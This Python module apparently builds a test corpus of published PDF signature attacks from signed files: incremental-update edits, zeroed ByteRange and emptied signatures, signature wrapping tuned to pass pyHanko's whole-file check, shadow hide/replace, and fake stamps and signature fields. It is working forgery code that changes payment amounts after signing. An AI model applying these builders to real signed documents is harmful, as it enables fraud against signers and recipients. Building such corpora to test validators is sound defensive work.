"""The attack corpus: published PDF signature attacks, built on the fly from signed documents.

Each builder takes the bytes of a validly signed document (and, for shadow attacks, a document
prepared *before* signing) and returns the altered bytes. References: Mladenov et al., "1 Trillion
Dollar Refund" (CCS 2019: incremental saving, universal signature forgery, signature wrapping);
Mainka et al., "Shadow Attacks" (NDSS 2021); Mainka et al., "Attacks on Certified PDFs"
(S&P 2021).
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

A4 = (0, 0, 595, 842)


def _font() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Font"),
            generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
            generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
        }
    )


def _form(content: bytes, font_ref=None) -> generic.StreamObject:
    resources = generic.DictionaryObject()
    if font_ref is not None:
        resources[generic.NameObject("/Font")] = generic.DictionaryObject(
            {generic.NameObject("/F1"): font_ref}
        )
    return generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in A4]),
            generic.NameObject("/Resources"): resources,
        },
        stream_data=content,
    )


def _text(words: str, y: int = 700) -> bytes:
    return f"BT /F1 18 Tf 72 {y} Td ({words}) Tj ET".encode("latin-1")


WHITE_COVER = b"q 1 1 1 rg 60 680 480 40 re f Q"


def shadow_prepared_pdf() -> bytes:
    """What the attacker hands the signer: visible text, hidden text under a white cover, and an
    unused alternative page content — all harmless-looking until revealed after signing."""
    writer = PdfFileWriter()
    font = writer.add_object(_font())
    hidden = writer.add_object(_form(_text("Chi 1.000.000.000 dong"), font))
    cover = writer.add_object(_form(WHITE_COVER))
    visible = writer.add_object(_form(_text("Chi 1.000 dong", 600), font))
    spare = writer.add_object(generic.StreamObject(stream_data=b"q /Hidden Do Q q /Visible Do Q"))
    contents = writer.add_object(
        generic.StreamObject(stream_data=b"q /Hidden Do Q q /Cover Do Q q /Visible Do Q")
    )
    resources = generic.DictionaryObject(
        {
            generic.NameObject("/XObject"): generic.DictionaryObject(
                {
                    generic.NameObject("/Hidden"): hidden,
                    generic.NameObject("/Cover"): cover,
                    generic.NameObject("/Visible"): visible,
                }
            ),
            generic.NameObject("/Font"): generic.DictionaryObject(
                {generic.NameObject("/F1"): font}
            ),
        }
    )
    writer.insert_page(PageObject(contents=contents, media_box=A4, resources=resources))
    # Keep the spare stream reachable so it survives saving (an attacker parks it in /Info).
    writer.set_info(generic.DictionaryObject({generic.NameObject("/KyHopSpare"): spare}))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _update(signed: bytes, change) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _xobject_ref(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    return _first_page(writer)["/Resources"]["/XObject"].raw_get(name)


# --- Incremental saving attack ----------------------------------------------------------------


def incremental_content_replaced(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        font = writer.add_object(_font())
        page["/Resources"] = generic.DictionaryObject(
            {
                generic.NameObject("/Font"): generic.DictionaryObject(
                    {generic.NameObject("/F1"): font}
                )
            }
        )
        page["/Contents"] = writer.add_object(
            generic.StreamObject(stream_data=_text("Noi dung da bi thay"))
        )
        writer.update_container(page)

    return _update(signed, change)


def incremental_page_added(signed: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        content = writer.add_object(generic.StreamObject(stream_data=_text("Trang them")))
        writer.insert_page(PageObject(contents=content, media_box=A4))

    return _update(signed, change)


# --- Universal signature forgery and signature wrapping ----------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _byte_range(signed: bytes) -> re.Match[bytes]:
    match = _BYTE_RANGE.search(signed)
    assert match is not None, "the file carries no signature /ByteRange"
    return match


def byte_range_position(signed: bytes) -> int:
    """Where the first signature's ``/ByteRange`` array ends in *signed*."""
    return _byte_range(signed).end()


def _same_width(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old), "the forged ByteRange must fit where the real one was"
    return new + b" " * (len(old) - len(new))


def usf_byte_range_zeroed(signed: bytes) -> bytes:
    """USF: a ByteRange that covers nothing, so nothing is verified."""
    match = _byte_range(signed)
    forged = _same_width(match.group(0), b"/ByteRange [0 0 0 0]")
    return signed[: match.start()] + forged + signed[match.end() :]


def usf_contents_emptied(signed: bytes) -> bytes:
    """USF: the signature value replaced by zeros (an 'empty' signature)."""
    match = _byte_range(signed)
    start, length = int(match.group(2)), int(match.group(3)) - int(match.group(2))
    zeros = b"<" + b"0" * (length - 2) + b">"
    return signed[:start] + zeros + signed[start + length :]


def signature_wrapping(signed: bytes) -> bytes:
    """SWA: move the second signed range further on and slip new bytes into the gap."""
    match = _byte_range(signed)
    a, b, c, d = (int(g) for g in match.groups())
    payload = b"\n% injected by the attacker\n1 0 obj\n(evil)\nendobj\n"
    forged = _same_width(match.group(0), b"/ByteRange [%d %d %d %d]" % (a, b, c + len(payload), d))
    body = signed[: match.start()] + forged + signed[match.end() :]
    return body[:c] + payload + body[c:]


# --- Shadow attacks (document prepared before signing, changed after) ----------------------------


def _overwrite_stream(writer: IncrementalPdfFileWriter, name: str, content: bytes) -> None:
    """Rewrite an existing form XObject in place: same object number, new bytes."""
    ref = _xobject_ref(writer, name)
    stream = ref.get_object()
    stream.strip_filters()
    stream._data = stream._encoded_data = content
    writer.mark_update(ref)


def shadow_hide(signed: bytes) -> bytes:
    """Hide: the white cover over the hidden text is emptied after signing."""
    return _update(signed, lambda writer: _overwrite_stream(writer, "/Cover", b""))


def shadow_replace(signed: bytes) -> bytes:
    """Replace: the visible text's form XObject is overwritten with other words."""

    return _update(
        signed,
        lambda writer: _overwrite_stream(writer, "/Visible", _text("Chi 9.000.000 dong", 600)),
    )


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """Hide-and-replace: the page is pointed at the spare content parked before signing."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page["/Contents"] = writer.trailer["/Info"].get_object().raw_get("/KyHopSpare")
        writer.update_container(page)

    return _update(signed, change)


# --- Certification attacks and overlays --------------------------------------------------------


def _annotation(writer: IncrementalPdfFileWriter, subtype: str, appearance: bytes):
    page = _first_page(writer)
    stream = writer.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (0, 0, 230, 70)]
                ),
            },
            stream_data=appearance,
        )
    )
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject(subtype),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (330, 80, 560, 150)]
            ),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): writer.root["/Pages"]["/Kids"][0],
            generic.NameObject("/AP"): generic.DictionaryObject({generic.NameObject("/N"): stream}),
        }
    )
    return page, annot


FAKE_STAMP = b"q 0 0 1 RG 2 w 2 2 226 66 re S Q BT /Helv 10 Tf 8 40 Td (Ky boi: Nguyen Van A) Tj ET"


def annotation_added(signed: bytes) -> bytes:
    """A stamp annotation (an overlay that can cover text or imitate a signature)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page, annot = _annotation(writer, "/Stamp", FAKE_STAMP)
        annots = page.get("/Annots", generic.ArrayObject())
        annots.append(writer.add_object(annot))
        page["/Annots"] = annots
        writer.update_container(page)

    return _update(signed, change)


def fake_signature_field(signed: bytes) -> bytes:
    """An unsigned signature field whose appearance imitates a signature."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page, widget = _annotation(writer, "/Widget", FAKE_STAMP)
        widget[generic.NameObject("/FT")] = generic.NameObject("/Sig")
        widget[generic.NameObject("/T")] = generic.TextStringObject("ChuKyGia")
        ref = writer.add_object(widget)
        annots = page.get("/Annots", generic.ArrayObject())
        annots.append(ref)
        page["/Annots"] = annots
        writer.update_container(page)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(ref)
        writer.update_container(form)

    return _update(signed, change)


# --- Signature wrapping with a matching file size -----------------------------------------------


def text_pdf(lines: list[str], *, pages: int = 1) -> bytes:
    """A plain A4 document whose pages show *lines* (page number added on each)."""
    writer = PdfFileWriter()
    font = writer.add_object(_font())
    for number in range(1, pages + 1):
        body = b"\n".join(_text(line, 760 - 30 * i) for i, line in enumerate(lines))
        body += b"\n" + _text(f"Trang {number}", 40)
        contents = writer.add_object(generic.StreamObject(stream_data=body))
        resources = generic.DictionaryObject(
            {
                generic.NameObject("/Font"): generic.DictionaryObject(
                    {generic.NameObject("/F1"): font}
                )
            }
        )
        writer.insert_page(PageObject(contents=contents, media_box=A4, resources=resources))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _escape_literal(value: bytes) -> bytes:
    """A PDF literal string holding *value* byte for byte (EOLs escaped: readers normalise them)."""
    out = value.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + out.replace(b"\r", b"\\r").replace(b"\n", b"\\n") + b")"


def _classic_offsets(data: bytes) -> dict[int, tuple[int, int]]:
    """Every object of the file as its reader resolves it: {id: (generation, offset)}."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data))
    found: dict[int, tuple[int, int]] = {}
    for revision in range(reader.xrefs.total_revisions):
        section = reader.xrefs.get_xref_data(revision)
        assert not section.xrefs_in_objstm, "the builder handles classic tables only"
        found.update(section.standard_xrefs)
    return found


def signature_wrapping_size_matched(
    signed: bytes, *, words: str = "Chi 9.000.000.000 dong"
) -> bytes:
    """SWA built so that pyHanko's size test says "covers the entire file".

    The signed revision ``[0, a) + <hex> + [b, end)`` becomes
    ``[0, a) + gap + [b, end)`` with a gap of ``2L + 2`` bytes, where ``L`` is the length of a
    *literal-string* copy of the signature value: then ``a + c + 2L + 2`` is the file size. The
    gap holds a copy of the signature dictionary (new ``/ByteRange [0 a a+gap c]``, literal
    ``/Contents``), a new content stream for page 1, and — at exactly the offset the signed
    ``startxref`` names — a new cross-reference table pointing at them. The digest is that of
    the untouched signed bytes; the page shows *words*.
    """
    match = _byte_range(signed)
    _zero, a, b, c = (int(g) for g in match.groups())
    end = b + c
    original = signed[:end]  # later revisions (DSS, time-stamps) are dropped
    part1, hex_contents, part2 = original[:a], original[a:b], original[b:end]
    value = bytes.fromhex(hex_contents[1:-1].decode())
    startxref = int(re.findall(rb"startxref\s+(\d+)", part2)[-1])
    offsets = _classic_offsets(original)
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(original))
    sig_id = reader.embedded_signatures[0].sig_field.raw_get("/V").reference.idnum
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    page_contents = page.raw_get("/Contents").reference.idnum
    # L: long enough that the table lands inside the gap with room to spare.
    length = len(value) + (startxref - b) + 4096
    literal_value = value + b"\x00" * (length - len(value))
    gap_size = 2 * length + 2
    shift = gap_size - (b - a)  # how far the second signed part moves
    sig_start = offsets[sig_id][1]
    sig_object = (
        signed[sig_start:a] + _escape_literal(literal_value) + part2[: part2.find(b"endobj") + 6]
    )
    new_range = b"/ByteRange [0 %d %d %d]" % (a, a + gap_size, c)
    sig_object = _BYTE_RANGE.sub(lambda m: _same_width(m.group(0), new_range), sig_object, count=1)
    content = _text(words)
    gap = bytearray(b"\n")
    new_offsets = {}
    new_offsets[sig_id] = a + len(gap)
    gap += sig_object + b"\n"
    new_offsets[page_contents] = a + len(gap)
    gap += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (page_contents, len(content))
    gap += content + b"\nendstream\nendobj\n"
    table_at = startxref - a  # where the signed startxref now points, inside the gap
    assert len(gap) <= table_at, "the gap is too small for the new objects"
    gap += b" " * (table_at - len(gap))
    size = max(offsets) + 1
    table = bytearray(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for idnum in range(1, size):
        if idnum in new_offsets:
            generation, offset = 0, new_offsets[idnum]
        elif idnum in offsets:
            generation, offset = offsets[idnum]
            if offset >= b:
                offset += shift
        else:
            table += b"0000000000 65535 f \n"
            continue
        table += b"%010d %05d n \n" % (offset, generation)
    root, info = reader.trailer.raw_get("/Root"), reader.trailer.raw_get("/Info")
    ids = b"".join(b"<%s>" % bytes(i.original_bytes).hex().encode() for i in reader.trailer["/ID"])
    trailer = b"<< /Size %d /Root %d 0 R /Info %d 0 R /ID [%s] >>" % (
        size,
        root.idnum,
        info.idnum,
        ids,
    )
    gap += table + b"trailer\n" + trailer + b"\n"
    assert len(gap) <= gap_size, "the gap is too small for the new table"
    gap += b" " * (gap_size - len(gap))
    forged = part1 + bytes(gap) + part2
    assert len(forged) == a + c + 2 * len(literal_value) + 2
    return forged
